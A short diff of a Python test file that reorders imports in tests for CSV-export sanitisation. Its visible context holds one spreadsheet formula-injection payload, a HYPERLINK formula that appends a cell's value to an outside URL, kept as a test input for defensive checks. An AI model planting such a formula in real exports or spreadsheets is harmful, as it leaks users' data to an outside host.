@@ -6,10 +6,10 @@ import csv
 import io
 
 import pytest
-
-from tracingbook.page.downloads import csv_text, safe_csv_file, spreadsheet_safe
 from tracingbook.sphinx.chart_table import csv_text as chart_csv_text
 from tracingbook.sphinx.chart_table import figure_tables
+
+from tracingbook.page.downloads import csv_text, safe_csv_file, spreadsheet_safe
 
 FORMULAS = [
     '=HYPERLINK("https://example.org/?leak="&A1,"click")',
